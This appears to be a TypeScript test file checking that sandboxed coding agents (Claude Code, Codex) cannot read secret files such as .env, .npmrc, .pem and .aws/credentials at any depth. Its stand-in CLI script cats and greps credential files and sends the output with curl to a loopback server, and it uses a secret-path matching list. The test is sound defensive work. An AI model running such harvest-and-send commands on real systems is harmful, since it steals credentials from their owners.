/**
 * A coding agent's folder holds no secret at any depth (docs/threat-model.md): its copy leaves secrets and
 * hard links to them out, and in its sandbox the dependency folders are bound with their secret files
 * covered. A `cli_path` stand-in (for `claude_code` and `codex`), started by dist/cli.js, greps and
 * cats everything it can see from inside the CLI sandbox and reports it; while it waits for the
 * answer, the test scans the folder on the host (mid-turn). And Claude Code's native Read and Grep
 * of a secret path are refused by the native tool policy (the real CLI, on a loopback API).
 * Controls: plain files beside each secret are seen.
 */
import { chmodSync, linkSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { existsSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { dirname, join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { usableBubblewrap } from '../../../src/core/providers/codingAgents/cliBinaries.js';
import { builtinSecretPaths } from '../../../src/core/workspace/secretPaths.js';
import { startLoopbackProvider, type LoopbackProvider } from '../../servers/loopbackProvider.js';
import { runCli } from '../cli/cliProcess.js';

const made: string[] = [];
afterAll(() => {
	for (const dir of made) rmSync(dir, { recursive: true, force: true });
});

function varTmp(prefix: string): string {
	const dir = mkdtempSync(join('/var/tmp', prefix));
	made.push(dir);
	return dir;
}

const files: Record<string, string> = {
	'node_modules/pkg/.env': 'TOKEN=DEPSECRET-pkg-env',
	'node_modules/.npmrc': 'TOKEN=DEPSECRET-npmrc',
	'node_modules/pkg/certs/server.pem': 'TOKEN DEPSECRET-pem',
	'node_modules/pkg/.aws/credentials': 'TOKEN DEPSECRET-aws-folder',
	'.venv/lib/python3.12/site-packages/x/.env': 'TOKEN=DEPSECRET-venv',
	'.env': 'TOKEN=DEPSECRET-dotenv',
	'src/.env.local': 'TOKEN=DEPSECRET-nested-env',
	'node_modules/pkg/index.js': 'TOKEN CONTROL-pkg-index',
	'node_modules/pkg/certs/readme.txt': 'TOKEN CONTROL-certs-readme',
	'.venv/lib/python3.12/site-packages/x/ok.txt': 'TOKEN CONTROL-venv',
	'src/app.ts': 'TOKEN CONTROL-app',
};

function workspace(): string {
	const root = varTmp('massgen-ca-secrets-');
	for (const [path, content] of Object.entries(files)) {
		mkdirSync(dirname(join(root, path)), { recursive: true });
		writeFileSync(join(root, path), `${content}\n`);
	}
	linkSync(join(root, '.env'), join(root, 'notes.txt'));
	linkSync(join(root, 'node_modules/.npmrc'), join(root, 'node_modules/pkg/linked.txt'));
	return root;
}

/** Every file under `dir` the host sees (links not followed): secret names and contents. */
function scanHost(dir: string): { names: string[]; contents: string } {
	const names: string[] = [];
	let contents = '';
	const walk = (folder: string) => {
		for (const entry of readdirSync(folder, { withFileTypes: true })) {
			const path = join(folder, entry.name);
			const rel = path.slice(dir.length + 1);
			if (builtinSecretPaths.match(rel) !== null) names.push(rel);
			if (entry.isDirectory()) walk(path);
			else if (entry.isFile()) contents += readFileSync(path, 'utf8');
		}
	};
	walk(dir);
	return { names, contents };
}

const bwrap = process.platform === 'linux' ? await usableBubblewrap(process.env) : undefined;

describe.runIf(bwrap !== undefined)('a coding agent sees no secret at any depth', () => {
	let server: Server;
	let url: string;
	const reports: { text: string; host: ReturnType<typeof scanHost> }[] = [];
	beforeAll(async () => {
		server = createServer((request, response) => {
			let body = '';
			request.on('data', (chunk: Buffer) => (body += chunk.toString()));
			request.on('end', () => {
				// The first line is the folder: scanned now, while the stand-in waits (mid-turn).
				const folder = body.split('\n')[0]!;
				reports.push({ text: body, host: scanHost(folder) });
				response.end('ok');
			});
		});
		await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
		url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
	});
	afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

	it.each([
		['claude_code', 'claude', 'ANTHROPIC_API_KEY'],
		['codex', 'codex', 'OPENAI_API_KEY'],
	] as const)(
		'%s: its CLI sandbox and its folder hold no secret (cli_path stand-in)',
		async (type, binary, keyName) => {
			const root = workspace();
			const outside = varTmp('massgen-ca-secrets-cli-');
			mkdirSync(join(outside, 'pkg', 'bin'), { recursive: true });
			const standIn = join(outside, 'pkg', 'bin', binary);
			const look = [
				'pwd',
				'grep -r TOKEN . 2>&1',
				"find . -name '*.pem' -exec cat {} + 2>&1",
				'cat node_modules/pkg/.env node_modules/.npmrc notes.txt node_modules/pkg/linked.txt 2>&1',
				'cat node_modules/pkg/.aws/credentials .venv/lib/python3.12/site-packages/x/.env 2>&1',
				'find . -name ".env*" -o -name .npmrc -o -name "*.pem" -o -name .aws 2>&1',
			].join('; ');
			writeFileSync(
				standIn,
				`#!/bin/sh\n{ ${look}; } | curl -s --max-time 10 --data-binary @- ${url} >/dev/null\nexit 1\n`,
			);
			chmodSync(standIn, 0o755);
			const config = join(outside, 'team.yaml');
			writeFileSync(
				config,
				['agents:', '  - id: coder', '    backend:', `      type: ${type}`, '      model: default'].join(
					'\n',
				) + `\n      cli_path: ${standIn}\n`,
			);
			const before = reports.length;
			const run = await runCli(['run', '--config', config, 'Look around.'], {
				cwd: root,
				env: { [keyName]: 'secrets-test-key', HOME: outside },
				deadlineMs: 20_000,
			});
			expect(run.code).not.toBe(0);
			const mine = reports.slice(before);
			expect(mine.length).toBeGreaterThan(0);
			for (const { text, host } of mine) {
				expect(text).not.toContain('DEPSECRET');
				// Controls: the plain files beside the secrets were read, in and out of the dependency folders.
				for (const control of ['CONTROL-pkg-index', 'CONTROL-certs-readme', 'CONTROL-venv', 'CONTROL-app']) {
					expect(text).toContain(control);
				}
				// On the host, mid-turn: no file of the folder has a secret name or content.
				expect(host.names).toEqual([]);
				expect(host.contents).not.toContain('DEPSECRET');
				expect(host.contents).toContain('CONTROL-app');
			}
			expect(run.stdout + run.stderr).not.toContain('DEPSECRET');
		},
	);
});

const claude = process.env['MASSGEN_CLAUDE_CODE_PATH'] ?? '';
describe.runIf(bwrap !== undefined)('Claude Code: a native Read or Grep of a secret path is refused', () => {
	let server: LoopbackProvider;
	let outside: string;
	beforeEach(async () => {
		server = await startLoopbackProvider('anthropic', { auto: { name: 'claude' } });
		outside = varTmp('massgen-ca-secrets-home-');
	});
	afterEach(async () => {
		await server.close();
	});

	it('Read of a dependency secret and of a hard link, Grep in a secret: refused by the policy; a plain file is read', async () => {
		const root = workspace();
		const config = join(outside, 'team.yaml');
		writeFileSync(
			config,
			[
				'agents:',
				'  - id: coder',
				'    backend:',
				'      type: claude_code',
				'      model: claude-sonnet-4-5',
				`      base_url: ${server.baseUrl}`,
				'      allowed_tools: [Read, Grep]',
				...(claude === '' ? [] : [`      cli_path: ${claude}`]),
				'',
			].join('\n'),
		);
		const call = (id: string, name: string, args: Record<string, unknown>) => ({
			toolCalls: [{ id, name, arguments: args }],
			usage: { input: 40, output: 9 },
		});
		server.say(call('toolu_1', 'Read', { file_path: 'node_modules/pkg/.env' }));
		server.say(call('toolu_2', 'Read', { file_path: 'notes.txt' }));
		server.say(call('toolu_3', 'Read', { file_path: 'node_modules/pkg/linked.txt' }));
		server.say(call('toolu_4', 'Grep', { pattern: 'TOKEN', path: 'node_modules/pkg/.aws' }));
		server.say(call('toolu_5', 'Read', { file_path: 'node_modules/pkg/index.js' }));
		server.say({ text: 'Done reading.', usage: { input: 60, output: 5 } });
		const run = await runCli(['run', '--config', config, 'Read the files.'], {
			cwd: root,
			env: { ANTHROPIC_API_KEY: 'loopback-anthropic-key', HOME: outside },
			deadlineMs: 60_000,
		});
		expect(run.code, run.stderr).toBe(0);
		const results = server.requests.slice(1, 6).map((request) => String(request.prompt.lastToolResult));
		expect(results[0]).toContain("is a secret path (matches '.env*')");
		// A hard link in the workspace is not in the folder at all (the copy left it out) …
		expect(results[1]).toContain('File does not exist');
		// … one in a dependency folder (bound in whole) is refused by its inode.
		expect(results[2]).toContain('is a hard link to a secret file');
		// Grep, which the CLI runs inside its folder without asking: refused by the PreToolUse hook.
		expect(results[3]).toContain("is a secret path (matches '.aws/')");
		// Control: a plain file in the same dependency folder is read (through the sandbox's bind).
		expect(results[4]).toContain('CONTROL-pkg-index');
		const everything = [run.stdout, run.stderr, ...server.requests.map((request) => request.rawBody)].join(
			'\n',
		);
		expect(everything).not.toContain('DEPSECRET');
		expect(existsSync(join(root, 'node_modules/pkg/.env'))).toBe(true);
	}, 90_000);
});
